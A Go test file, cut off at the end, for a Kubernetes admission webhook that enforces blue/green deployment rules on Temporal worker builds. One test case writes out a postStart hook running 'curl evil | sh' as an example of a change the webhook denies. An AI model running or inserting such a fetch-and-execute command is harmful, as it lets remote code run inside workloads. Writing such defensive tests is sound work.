package policy

import (
	"context"
	"encoding/json"
	"errors"
	"maps"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/apimachinery/pkg/util/validation/field"
	"k8s.io/utils/ptr"

	"github.com/iss-platform/iss-webhook/policy/v1alpha1"
)

// These tests try every route a namespace editor has around the blue/green rules: the
// Deployment's own fields by every verb, a Deployment deleted and created anew or a second one
// with the build id, the ReplicaSets and pods of the build, and the build records themselves.

const (
	digestV7 = "registry.example.org/orders-worker@sha256:7777777777777777777777777777777777777777777777777777777777777777"
	digestV8 = "registry.example.org/orders-worker@sha256:8888888888888888888888888888888888888888888888888888888888888888"
)

func worker(build, tmplBuild, image string) *appsv1.Deployment {
	return &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: "orders-worker-v7", Labels: map[string]string{LabelComponent: TemporalWorkerComponent, LabelBuildID: build}},
		Spec: appsv1.DeploymentSpec{Replicas: ptr.To[int32](2),
			Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "orders-worker", LabelBuildID: build}},
			Template: corev1.PodTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "orders-worker", LabelBuildID: tmplBuild}},
				Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "worker", Image: image, Args: []string{"--queue", "orders"}}}},
			}},
	}
}

// changed returns a copy of d changed by f.
func changed(d *appsv1.Deployment, f func(d *appsv1.Deployment)) *appsv1.Deployment {
	c := d.DeepCopy()
	f(c)
	return c
}

func TestValidateTemporalWorker(t *testing.T) {
	v7 := worker("v7", "v7", digestV7)
	c0 := func(d *appsv1.Deployment) *corev1.Container { return &d.Spec.Template.Spec.Containers[0] }
	safe := changed(v7, func(d *appsv1.Deployment) {
		d.Spec.Replicas = ptr.To[int32](10)
		d.Spec.Template.Annotations = map[string]string{"kubectl.kubernetes.io/restartedAt": "2026-11-28T18:00:00Z"}
		c0(d).Resources.Limits = resources("cpu", "2")
		c0(d).ResizePolicy = []corev1.ContainerResizePolicy{{ResourceName: corev1.ResourceCPU, RestartPolicy: corev1.NotRequired}}
		s := &d.Spec.Template.Spec
		s.NodeSelector = map[string]string{"pool": "workers"}
		s.Tolerations = []corev1.Toleration{{Key: "workers", Operator: corev1.TolerationOpExists}}
		s.Affinity = &corev1.Affinity{NodeAffinity: &corev1.NodeAffinity{}}
		s.TopologySpreadConstraints = []corev1.TopologySpreadConstraint{{MaxSkew: 1, TopologyKey: "zone", WhenUnsatisfiable: corev1.ScheduleAnyway}}
		s.PriorityClassName = "workers"
		s.Resources = &corev1.ResourceRequirements{Limits: resources("cpu", "4")}
		d.Labels["team"] = "orders"
	})
	notWorker := changed(v7, func(d *appsv1.Deployment) {
		delete(d.Labels, LabelComponent)
		delete(d.Labels, LabelBuildID)
		delete(d.Spec.Template.Labels, LabelBuildID)
	})
	plain := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: "web", Labels: map[string]string{"app": "web"}},
		Spec: appsv1.DeploymentSpec{Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "web"}}, Template: corev1.PodTemplateSpec{
			ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "web"}}, Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "web", Image: "nginx:1.27"}}}}}}
	recorded := RecordOf("team-a-dev", v7)
	recordedV8 := RecordOf("team-a-dev", changed(v7, func(d *appsv1.Deployment) { c0(d).Image = digestV8 }))
	hashOnly := recordedV8
	hashOnly.Code = nil

	for _, tc := range []struct {
		name     string
		old, cur *appsv1.Deployment
		recorded *BuildRecord
		tags     bool
		want     []wantErr
	}{
		{name: "new worker", cur: v7},
		{name: "new worker of its recorded code (deleted and created anew)", cur: v7, recorded: &recorded},
		{name: "new worker of its recorded code, other resources and scheduling", cur: safe, recorded: &recorded},
		{name: "deleted and created anew with other code", cur: v7, recorded: &recordedV8,
			want: []wantErr{{"spec.template.spec.containers[0].image", "recorded code of build iss.platform/build-id=v7 in namespace team-a-dev is that of Deployment orders-worker-v7"}}},
		{name: "a second Deployment with the build id and other code", cur: changed(v7, func(d *appsv1.Deployment) {
			d.Name = "orders-worker-copy"
			c0(d).Command = []string{"/bin/other"}
		}), recorded: &recorded, want: []wantErr{{"spec.template.spec.containers[0].command", "added"}}},
		{name: "other code against a record that keeps only its hash", cur: v7, recorded: &hashOnly,
			want: []wantErr{{"spec.template", "differs from the recorded code"}}},
		{name: "image by tag", cur: worker("v7", "v7", "registry.example.org/orders-worker:v7"),
			want: []wantErr{{"spec.template.spec.containers[0].image", "pinned by digest"}}},
		{name: "image by tag and digest", cur: worker("v7", "v7", "registry.example.org/orders-worker:v7@sha256:7777777777777777777777777777777777777777777777777777777777777777")},
		{name: "image by tag, tags allowed", cur: worker("v7", "v7", "registry.example.org/orders-worker:v7"), tags: true},
		{name: "init container by tag", cur: changed(v7, func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.InitContainers = []corev1.Container{{Name: "migrate", Image: "busybox"}}
		}), want: []wantErr{{"spec.template.spec.initContainers[0].image", "docker.io/library/busybox@sha256:<digest>"}}},
		{name: "unparsable image", cur: worker("v7", "v7", "Registry.example.org/UPPER@@x"),
			want: []wantErr{{"spec.template.spec.containers[0].image", "is not an image reference"}}},
		{name: "build id missing", cur: worker("", "", digestV7), want: []wantErr{{"metadata.labels[iss.platform/build-id]", "set it here and on the pod template"}}},
		{name: "template build id differs", cur: worker("v7", "v6", digestV7), want: []wantErr{{"spec.template.metadata.labels[iss.platform/build-id]", `must equal the Deployment's iss.platform/build-id "v7"`}}},
		{name: "selector without the build id", cur: changed(v7, func(d *appsv1.Deployment) { delete(d.Spec.Selector.MatchLabels, LabelBuildID) }),
			want: []wantErr{{"spec.selector.matchLabels[iss.platform/build-id]", "selects its pods by its build id"}}},
		{name: "no selector", cur: changed(v7, func(d *appsv1.Deployment) { d.Spec.Selector = nil }),
			want: []wantErr{{"spec.selector.matchLabels[iss.platform/build-id]", "selects its pods by its build id"}}},
		{name: "a build id without the worker label is held to the rules", cur: changed(worker("v7", "v7", "registry.example.org/orders-worker:v7"), func(d *appsv1.Deployment) { delete(d.Labels, LabelComponent) }),
			want: []wantErr{{"spec.template.spec.containers[0].image", "pinned by digest"}}},
		{name: "a build id on the template only", cur: changed(plain, func(d *appsv1.Deployment) { d.Spec.Template.Labels[LabelBuildID] = "v7" }),
			want: []wantErr{{"metadata.labels[iss.platform/build-id]", "set it here"}}},
		{name: "not a worker", cur: plain},
		{name: "not a worker, updated", old: plain, cur: changed(plain, func(d *appsv1.Deployment) { d.Spec.Template.Spec.Containers[0].Image = "nginx:1.28" })},

		{name: "kubectl scale, rollout restart, resources, scheduling, other labels", old: v7, cur: safe},
		{name: "kubectl set image", old: v7, cur: changed(v7, func(d *appsv1.Deployment) { c0(d).Image = digestV8 }),
			want: []wantErr{{"spec.template.spec.containers[0].image", `changed from "` + digestV7 + `" to "` + digestV8 + `": Temporal workers are deployed blue/green`}}},
		{name: "env", old: v7, cur: changed(v7, func(d *appsv1.Deployment) { c0(d).Env = []corev1.EnvVar{{Name: "FLAG", Value: "1"}} }),
			want: []wantErr{{"spec.template.spec.containers[0].env", "added"}}},
		{name: "env value", old: changed(v7, func(d *appsv1.Deployment) { c0(d).Env = []corev1.EnvVar{{Name: "FLAG", Value: "1"}} }),
			cur:  changed(v7, func(d *appsv1.Deployment) { c0(d).Env = []corev1.EnvVar{{Name: "FLAG", Value: "2"}} }),
			want: []wantErr{{"spec.template.spec.containers[0].env[0].value", `changed from "1" to "2"`}}},
		{name: "envFrom", old: v7, cur: changed(v7, func(d *appsv1.Deployment) {
			c0(d).EnvFrom = []corev1.EnvFromSource{{ConfigMapRef: &corev1.ConfigMapEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "flags"}}}}
		}), want: []wantErr{{"spec.template.spec.containers[0].envFrom", "added"}}},
		{name: "args", old: v7, cur: changed(v7, func(d *appsv1.Deployment) { c0(d).Args = []string{"--queue", "other"} }),
			want: []wantErr{{"spec.template.spec.containers[0].args[1]", `changed from "orders" to "other"`}}},
		{name: "code swapped through a volume", old: v7, cur: changed(v7, func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Volumes = []corev1.Volume{{Name: "code", VolumeSource: corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "code"}}}}}
			c0(d).VolumeMounts = []corev1.VolumeMount{{Name: "code", MountPath: "/app"}}
		}), want: []wantErr{{"spec.template.spec.containers[0].volumeMounts", "added"}, {"spec.template.spec.volumes", "added"}}},
		{name: "workingDir", old: v7, cur: changed(v7, func(d *appsv1.Deployment) { c0(d).WorkingDir = "/other" }),
			want: []wantErr{{"spec.template.spec.containers[0].workingDir", "added"}}},
		{name: "a lifecycle hook", old: v7, cur: changed(v7, func(d *appsv1.Deployment) {
			c0(d).Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "curl evil | sh"}}}}
		}), want: []wantErr{{"spec.template.spec.containers[0].lifecycle.postStart.exec.command", "added"}}},
		{name: "a probe", old: v7, cur: changed(v7, func(d *appsv1.Deployment) {
			c0(d).LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"sh"}}}}
		}), want: []wantErr{{"spec.template.spec.containers[0].livenessProbe.exec.command", "added"}}},
		{name: "an init container", old: v7, cur: changed(v7, func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.InitContainers = []corev1.Container{{Name: "patch", Image: digestV8}}
		}), want: []wantErr{{"spec.template.spec.initContainers", "added"}}},
		{name: "a second container", old: v7, cur: changed(v7, func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Containers = append(d.Spec.Template.Spec.Containers, corev1.Container{Name: "side", Image: digestV8})
		}), want: []wantErr{{"spec.template.spec.containers", "1 entries became 2"}}},
		{name: "securityContext and serviceAccountName", old: v7, cur: changed(v7, func(d *appsv1.Deployment) {
			c0(d).SecurityContext = &corev1.SecurityContext{RunAsUser: ptr.To[int64](0)}
			d.Spec.Template.Spec.ServiceAccountName = "admin"
		}), want: []wantErr{{"spec.template.spec.containers[0].securityContext.runAsUser", "added"}, {"spec.template.spec.serviceAccountName", "added"}}},
		{name: "a template label (sidecar injection)", old: v7, cur: changed(v7, func(d *appsv1.Deployment) { d.Spec.Template.Labels["sidecar.istio.io/inject"] = "true" }),
			want: []wantErr{{"spec.template.metadata.labels[sidecar.istio.io/inject]", "added"}}},
		{name: "a template annotation other than a restart's", old: v7, cur: changed(v7, func(d *appsv1.Deployment) {
			d.Spec.Template.Annotations = map[string]string{"vault.hashicorp.com/agent-inject": "true"}
		}), want: []wantErr{{"spec.template.metadata.annotations[vault.hashicorp.com/agent-inject]", "added"}}},
		{name: "build id change", old: v7, cur: changed(worker("v8", "v8", digestV7), func(d *appsv1.Deployment) { d.Spec.Selector = v7.Spec.Selector }),
			want: []wantErr{{"metadata.labels[iss.platform/build-id]", `changed from "v7" to "v8"`}, {"spec.template.metadata.labels[iss.platform/build-id]", `changed from "v7" to "v8"`}}},
		{name: "the worker label removed, the build id kept: still held", old: v7, cur: changed(v7, func(d *appsv1.Deployment) {
			delete(d.Labels, LabelComponent)
			c0(d).Image = digestV8
		}), want: []wantErr{{"spec.template.spec.containers[0].image", "changed from"}}},
		{name: "the build id removed", old: v7, cur: changed(v7, func(d *appsv1.Deployment) {
			delete(d.Labels, LabelBuildID)
			delete(d.Spec.Template.Labels, LabelBuildID)
		}), want: []wantErr{{"metadata.labels[iss.platform/build-id]", "set it here"}, {"spec.template.metadata.labels[iss.platform/build-id]", "removed"}}},
		{name: "no longer a worker at all", old: v7, cur: notWorker, want: []wantErr{{"metadata.labels", "stays one"}}},
		{name: "becoming a worker is judged as new", old: plain, cur: changed(plain, func(d *appsv1.Deployment) {
			d.Labels[LabelComponent], d.Labels[LabelBuildID], d.Spec.Template.Labels[LabelBuildID] = TemporalWorkerComponent, "v7", "v7"
		}), recorded: &recorded, want: []wantErr{
			{"spec.selector.matchLabels[iss.platform/build-id]", "create the Deployment anew"},
			{"spec.template.spec.containers[0].image", "pinned by digest"},
			{"spec.template.metadata.labels[app]", "recorded code"},
			{"spec.template.spec.containers[0].args", "recorded code"},
			{"spec.template.spec.containers[0].image", "recorded code"},
			{"spec.template.spec.containers[0].name", "recorded code"},
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tp := DefaultTemporalPolicy()
			tp.AllowImageTags = tc.tags
			checkErrs(t, tp.ValidateTemporalWorker(tc.old, tc.cur, tc.recorded), tc.want)
		})
	}
}

// TestWorkerCode checks the allowlist of what may change without a new build: the fields that
// are safe leave the hash as it was, every other field changes it, and a template spelled with
// empty lists where another has none records the same code.
func TestWorkerCode(t *testing.T) {
	base := worker("v7", "v7", digestV7).Spec.Template
	hash := func(tmpl corev1.PodTemplateSpec) string { return WorkerCodeHash(WorkerCodeJSON(&tmpl)) }
	want := hash(base)
	for name, f := range map[string]func(t *corev1.PodTemplateSpec){
		"resources": func(t *corev1.PodTemplateSpec) { t.Spec.Containers[0].Resources.Requests = resources("memory", "1Gi") },
		"init resources": func(t *corev1.PodTemplateSpec) {
			t.Spec.InitContainers = []corev1.Container{{Name: "i", Image: digestV7}}
		},
		"pod-template-hash": func(t *corev1.PodTemplateSpec) { t.Labels[appsv1.DefaultDeploymentUniqueLabelKey] = "5d4f8c7b9" },
		"restartedAt": func(t *corev1.PodTemplateSpec) {
			t.Annotations = map[string]string{"kubectl.kubernetes.io/restartedAt": "now"}
		},
		"Rancher's redeploy": func(t *corev1.PodTemplateSpec) { t.Annotations = map[string]string{"cattle.io/timestamp": "now"} },
		"Reloader": func(t *corev1.PodTemplateSpec) {
			t.Annotations = map[string]string{"reloader.stakater.com/last-reloaded-from": "{}"}
		},
		"nodeName":        func(t *corev1.PodTemplateSpec) { t.Spec.NodeName = "node-1" },
		"priority":        func(t *corev1.PodTemplateSpec) { t.Spec.Priority = ptr.To[int32](1000) },
		"schedulingGates": func(t *corev1.PodTemplateSpec) { t.Spec.SchedulingGates = []corev1.PodSchedulingGate{{Name: "wait"}} },
		"empty lists": func(t *corev1.PodTemplateSpec) {
			t.Spec.Volumes, t.Spec.Containers[0].Env = []corev1.Volume{}, []corev1.EnvVar{}
		},
		"empty annotations":    func(t *corev1.PodTemplateSpec) { t.Annotations = map[string]string{} },
		"name of the template": func(t *corev1.PodTemplateSpec) { t.Name = "ignored" },
	} {
		tmpl := *base.DeepCopy()
		f(&tmpl)
		if name == "init resources" {
			// An init container is code; its resources are not.
			with := *tmpl.DeepCopy()
			with.Spec.InitContainers[0].Resources.Limits = resources("cpu", "1")
			if hash(with) != hash(tmpl) {
				t.Errorf("%s: the hash changed", name)
			}
			continue
		}
		if got := hash(tmpl); got != want {
			t.Errorf("%s: the hash changed", name)
		}
	}
	for name, f := range map[string]func(t *corev1.PodTemplateSpec){
		"image":            func(t *corev1.PodTemplateSpec) { t.Spec.Containers[0].Image = digestV8 },
		"imagePullPolicy":  func(t *corev1.PodTemplateSpec) { t.Spec.Containers[0].ImagePullPolicy = corev1.PullAlways },
		"a label":          func(t *corev1.PodTemplateSpec) { t.Labels["x"] = "y" },
		"an annotation":    func(t *corev1.PodTemplateSpec) { t.Annotations = map[string]string{"x": "y"} },
		"a finalizer":      func(t *corev1.PodTemplateSpec) { t.Finalizers = []string{"x/y"} },
		"runtimeClassName": func(t *corev1.PodTemplateSpec) { t.Spec.RuntimeClassName = ptr.To("other") },
		"hostAliases": func(t *corev1.PodTemplateSpec) {
			t.Spec.HostAliases = []corev1.HostAlias{{IP: "10.0.0.1", Hostnames: []string{"temporal"}}}
		},
		"dnsConfig": func(t *corev1.PodTemplateSpec) {
			t.Spec.DNSConfig = &corev1.PodDNSConfig{Nameservers: []string{"10.0.0.1"}}
		},
		"shareProcess": func(t *corev1.PodTemplateSpec) { t.Spec.ShareProcessNamespace = ptr.To(true) },
		"a pod securityCtx": func(t *corev1.PodTemplateSpec) {
			t.Spec.SecurityContext = &corev1.PodSecurityContext{RunAsUser: ptr.To[int64](0)}
		},
		"startupProbe": func(t *corev1.PodTemplateSpec) {
			t.Spec.Containers[0].StartupProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{TCPSocket: &corev1.TCPSocketAction{Port: intstr.FromInt32(1)}}}
		},
	} {
		tmpl := *base.DeepCopy()
		f(&tmpl)
		if hash(tmpl) == want {
			t.Errorf("%s: the hash did not change", name)
		}
	}
}

func TestBuildRecordName(t *testing.T) {
	a, b := BuildRecordName("team-a-dev", "v7"), BuildRecordName("team-a-prod", "v7")
	if a == b || a != BuildRecordName("team-a-dev", "v7") || BuildRecordName("team-a", "dev/v7") == BuildRecordName("team-a-dev", "v7") {
		t.Errorf("names are not one per namespace and build: %s %s", a, b)
	}
	if !strings.HasPrefix(a, BuildRecordNamePrefix) || len(a) > 63 {
		t.Errorf("name %q", a)
	}
}

func TestValidateBuildCarrier(t *testing.T) {
	rs := func(build, image string) *appsv1.ReplicaSet {
		labels := map[string]string{"app": "orders-worker", appsv1.DefaultDeploymentUniqueLabelKey: "5d4f8c7b9"}
		if build != "" {
			labels[LabelBuildID] = build
		}
		return &appsv1.ReplicaSet{ObjectMeta: metav1.ObjectMeta{Name: "orders-worker-v7-5d4f8c7b9", Labels: labels}, Spec: appsv1.ReplicaSetSpec{
			Replicas: ptr.To[int32](2),
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: maps.Clone(labels)}, Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "worker", Image: image}}}},
		}}
	}
	v7 := rs("v7", digestV7)
	scaled := v7.DeepCopy()
	scaled.Spec.Replicas = ptr.To[int32](0)
	ownLabelOnly := rs("", digestV7)
	ownLabelOnly.Labels[LabelBuildID] = "v7"
	unlabelled := v7.DeepCopy()
	delete(unlabelled.Labels, LabelBuildID)
	delete(unlabelled.Spec.Template.Labels, LabelBuildID)
	unlabelled.Spec.Template.Spec.Containers[0].Image = digestV8
	withBuild := func(obj metav1.Object, tmpl *corev1.PodTemplateSpec) metav1.Object {
		tmpl.Labels = map[string]string{LabelBuildID: "v7"}
		tmpl.Spec.Containers = []corev1.Container{{Name: "worker", Image: digestV8}}
		return obj
	}
	sts, ds, job, cj, rc, pt := &appsv1.StatefulSet{}, &appsv1.DaemonSet{}, &batchv1.Job{}, &batchv1.CronJob{}, &corev1.ReplicationController{Spec: corev1.ReplicationControllerSpec{Template: &corev1.PodTemplateSpec{}}}, &corev1.PodTemplate{}
	for _, tc := range []struct {
		name     string
		cur, old metav1.Object
		want     []wantErr
	}{
		{"a ReplicaSet of a build created by hand", v7, nil, []wantErr{{"metadata.labels[iss.platform/build-id]", "not created by hand"}}},
		{"a ReplicaSet with the build id in its template only", func() *appsv1.ReplicaSet {
			r := rs("", digestV7)
			r.Spec.Template.Labels[LabelBuildID] = "v7"
			return r
		}(), nil,
			[]wantErr{{"spec.template.metadata.labels[iss.platform/build-id]", "not created by hand"}}},
		{"a ReplicaSet with the build id on itself only", ownLabelOnly, nil, []wantErr{{"metadata.labels[iss.platform/build-id]", "not created by hand"}}},
		{"a ReplicaSet of no build", rs("", digestV7), nil, nil},
		{"kubectl scale of a build's ReplicaSet", scaled, v7, nil},
		{"kubectl set image on a build's ReplicaSet", rs("v7", digestV8), v7, []wantErr{{"spec.template.spec.containers[0].image", "made by the Deployment and ReplicaSet controllers"}}},
		{"the build id dropped with the image change", unlabelled, v7, []wantErr{
			{"metadata.labels[iss.platform/build-id]", "was removed"},
			{"spec.template.metadata.labels[iss.platform/build-id]", "removed"},
			{"spec.template.spec.containers[0].image", "changed from"},
		}},
		{"a build id added to a ReplicaSet", v7, rs("", digestV7), []wantErr{
			{"metadata.labels[iss.platform/build-id]", "was added"},
			{"spec.template.metadata.labels[iss.platform/build-id]", "added"},
		}},
		{"a ReplicaSet of no build changed", rs("", digestV8), rs("", digestV7), nil},
		{"a StatefulSet", withBuild(sts, &sts.Spec.Template), nil, []wantErr{{"spec.template.metadata.labels[iss.platform/build-id]", "only Temporal worker Deployments"}}},
		{"a DaemonSet, updated", withBuild(ds, &ds.Spec.Template), &appsv1.DaemonSet{}, []wantErr{{"spec.template.metadata.labels[iss.platform/build-id]", "only Temporal worker Deployments"}}},
		{"a Job", withBuild(job, &job.Spec.Template), nil, []wantErr{{"spec.template.metadata.labels[iss.platform/build-id]", "only Temporal worker Deployments"}}},
		{"a CronJob", withBuild(cj, &cj.Spec.JobTemplate.Spec.Template), nil, []wantErr{{"spec.jobTemplate.spec.template.metadata.labels[iss.platform/build-id]", "only Temporal worker Deployments"}}},
		{"a ReplicationController", withBuild(rc, rc.Spec.Template), nil, []wantErr{{"spec.template.metadata.labels[iss.platform/build-id]", "only Temporal worker Deployments"}}},
		{"a PodTemplate", withBuild(pt, &pt.Template), nil, []wantErr{{"template.metadata.labels[iss.platform/build-id]", "only Temporal worker Deployments"}}},
		{"a Deployment is judged by the blue/green rules", worker("v7", "v7", digestV7), nil, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tp := DefaultTemporalPolicy()
			checkErrs(t, tp.ValidateBuildCarrier(tc.cur, tc.old), tc.want)
		})
	}
}

func workerPod(image string) *corev1.Pod {
	return &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "orders-worker-v7-5d4f8c7b9-x2x4q", Labels: map[string]string{"app": "orders-worker", LabelBuildID: "v7"}},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "worker", Image: image}}}}
}

func TestValidateWorkerPod(t *testing.T) {
	pod := workerPod(digestV7)
	tolerated := pod.DeepCopy()
	tolerated.Spec.Tolerations = []corev1.Toleration{{Key: "x", Operator: corev1.TolerationOpExists}}
	relabelled := pod.DeepCopy()
	relabelled.Labels["app"] = "quarantined"
	deadline := pod.DeepCopy()
	deadline.Spec.ActiveDeadlineSeconds = ptr.To[int64](5)
	plain := workerPod(digestV7)
	delete(plain.Labels, LabelBuildID)
	for _, tc := range []struct {
		name     string
		old, cur *corev1.Pod
		want     []wantErr
	}{
		{"a pod of a build created by hand", nil, pod, []wantErr{{"metadata.labels[iss.platform/build-id]", "kubectl debug --copy-to"}}},
		{"a plain pod", nil, plain, nil},
		{"kubectl set image on a build's pod", pod, workerPod(digestV8), []wantErr{{"spec.containers[0].image", "made by the Deployment and ReplicaSet controllers"}}},
		{"activeDeadlineSeconds on a build's pod", pod, deadline, []wantErr{{"spec.activeDeadlineSeconds", "added"}}},
		{"tolerations added", pod, tolerated, nil},
		{"other labels changed (quarantine)", pod, relabelled, nil},
		{"a plain pod's image", plain, func() *corev1.Pod { p := plain.DeepCopy(); p.Spec.Containers[0].Image = digestV8; return p }(), nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tp := DefaultTemporalPolicy()
			checkErrs(t, tp.ValidateWorkerPod(tc.old, tc.cur), tc.want)
		})
	}
}

func TestValidateWorkerEphemeralContainers(t *testing.T) {
	pod := workerPod(digestV7)
	debugged := pod.DeepCopy()
	debugged.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debugger", Image: "busybox"}}}
	again := debugged.DeepCopy()
	again.Spec.EphemeralContainers = append(again.Spec.EphemeralContainers, corev1.EphemeralContainer{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debugger-2", Image: "busybox"}})
	plain := debugged.DeepCopy()
	delete(plain.Labels, LabelBuildID)
	plainBefore := plain.DeepCopy()
	plainBefore.Spec.EphemeralContainers = nil
	tp := DefaultTemporalPolicy()
	checkErrs(t, tp.ValidateWorkerEphemeralContainers(pod, debugged), []wantErr{{"spec.ephemeralContainers[0]", `"debugger" would run other code inside a pod of Temporal build "v7"`}})
	checkErrs(t, tp.ValidateWorkerEphemeralContainers(debugged, again), []wantErr{{"spec.ephemeralContainers[1]", "debugger-2"}})
	checkErrs(t, tp.ValidateWorkerEphemeralContainers(plainBefore, plain), nil)
}

// builds is a BuildRecordLookup of records and in-use counts by namespace/build.
type builds struct {
	records map[string]*BuildRecord
	inUse   map[string]int
	err     error
}

func (b builds) BuildRecord(_ context.Context, namespace, build string) (*BuildRecord, error) {
	return b.records[namespace+"/"+build], b.err
}

func (b builds) BuildInUse(_ context.Context, namespace, build string) (int, error) {
	return b.inUse[namespace+"/"+build], b.err
}

// TestAdmitWorkloadBuilds checks what the workloads rule does with the records: it judges a new
// Deployment against the record of its namespace, names the record to write, and lets trusted
// identities (the Deployment controller) make a build's ReplicaSets.
func TestAdmitWorkloadBuilds(t *testing.T) {
	v7 := worker("v7", "v7", digestV7)
	v7.Namespace = "team-a-dev"
	other := changed(v7, func(d *appsv1.Deployment) { d.Spec.Template.Spec.Containers[0].Image = digestV8 })
	rec := RecordOf("team-a-dev", v7)
	facts := Facts{BuildRecords: builds{records: map[string]*BuildRecord{"team-a-dev/v7": &rec}}}
	req := func(ns string, trusted bool) *Request {
		return &Request{Operation: Create, Namespace: ns, User: "alice", Trusted: trusted, Facts: facts}
	}
	for _, tc := range []struct {
		name      string
		req       *Request
		obj, old  metav1.Object
		denies    bool
		write     bool
		judge     bool
		refused   bool
		policyMod func(p *Policy)
	}{
		{name: "created anew with its recorded code", req: req("team-a-dev", false), obj: v7, write: true, judge: true},
		{name: "created anew with other code", req: req("team-a-dev", false), obj: other, denies: true},
		{name: "other code in another namespace: its own build", req: req("team-a-prod", false), obj: other, write: true, judge: true},
		{name: "other code by a trusted identity: the record holds for everyone", req: req("team-a-dev", true), obj: other, denies: true},
		{name: "other code, Warn mode: admitted, the record judges the write", req: req("team-a-dev", false), obj: other, write: true, judge: true,
			policyMod: func(p *Policy) { p.Enforcement[RuleTemporalWorkers] = v1alpha1.Warn }},
		{name: "an update writes a missing record without judging it", req: req("team-a-dev", false), obj: changed(v7, func(d *appsv1.Deployment) { d.Spec.Replicas = ptr.To[int32](5) }), old: v7, write: true},
		{name: "the cache cannot answer", req: &Request{Operation: Create, Namespace: "team-a-dev", Facts: Facts{BuildRecords: builds{err: errors.New("not synced")}}}, obj: v7, refused: true},
		{name: "offline: no records known", req: &Request{Operation: Create, Namespace: "team-a-dev"}, obj: other, write: true, judge: true},
		{name: "a build's ReplicaSet by the Deployment controller", req: req("team-a-dev", true), obj: &appsv1.ReplicaSet{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{LabelBuildID: "v7"}}}},
		{name: "a build's ReplicaSet by hand", req: req("team-a-dev", false), obj: &appsv1.ReplicaSet{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{LabelBuildID: "v7"}}}, denies: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := Default()
			if tc.policyMod != nil {
				tc.policyMod(p)
			}
			out := AdmitWorkload(context.Background(), p, tc.req, tc.obj, tc.old)
			if got := out.Denies(p); got != tc.denies {
				t.Errorf("denies = %v, want %v: %+v", got, tc.denies, out.Findings)
			}
			if (out.Refusal != nil) != tc.refused {
				t.Errorf("refusal = %+v", out.Refusal)
			}
			if (out.BuildRecord != nil && !out.Denies(p)) != tc.write {
				t.Fatalf("record to write = %+v, want one: %v", out.BuildRecord, tc.write)
			}
			if tc.write && (out.BuildRecord.Judge != tc.judge || out.BuildRecord.Record.Namespace != tc.req.Namespace || out.BuildRecord.Record.BuildID != "v7") {
				t.Errorf("record to write = %+v", out.BuildRecord)
			}
		})
	}
}

// TestAdmitPodBuilds checks the pod routes of the build rules through AdmitPod: by hand denied,
// by the ReplicaSet controller (trusted) admitted, debug containers of others denied.
func TestAdmitPodBuilds(t *testing.T) {
	p := Default()
	pod := workerPod(digestV7)
	debugged := pod.DeepCopy()
	debugged.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debugger", Image: "busybox"}}}
	for _, tc := range []struct {
		name     string
		req      Request
		cur, old *corev1.Pod
		denies   bool
	}{
		{"created by hand", Request{Operation: Create, User: "alice"}, pod, nil, true},
		{"created by the ReplicaSet controller", Request{Operation: Create, User: "system:serviceaccount:kube-system:replicaset-controller", Trusted: true}, pod, nil, false},
		{"image changed by hand", Request{Operation: Update, User: "alice"}, workerPod(digestV8), pod, true},
		{"debugged by hand", Request{Operation: Update, SubResource: "ephemeralcontainers", User: "alice"}, debugged, pod, true},
		{"debugged by a cluster admin", Request{Operation: Update, SubResource: "ephemeralcontainers", User: "admin", Trusted: true}, debugged, pod, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out := AdmitPod(context.Background(), p, &tc.req, tc.cur, tc.old)
			if got := out.Denies(p); got != tc.denies {
				t.Errorf("denies = %v, want %v: %+v (skip %q)", got, tc.denies, out.Findings, out.Skip)
			}
		})
	}
}

func TestAdmitBuildRecord(t *testing.T) {
	record := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: BuildRecordName("team-a-dev", "v7"), Namespace: "iss-system",
		Labels: map[string]string{LabelManagedBy: ManagedByValue, LabelBuildNamespace: "team-a-dev", LabelBuildID: "v7"}}, Data: map[string]string{"codeHash": "sha256:x"}}
	changedHash := record.DeepCopy()
	changedHash.Data["codeHash"] = "sha256:y"
	unlabelled := record.DeepCopy()
	delete(unlabelled.Labels, LabelBuildNamespace)
	finalized := record.DeepCopy()
	finalized.Finalizers = []string{"foregroundDeletion"}
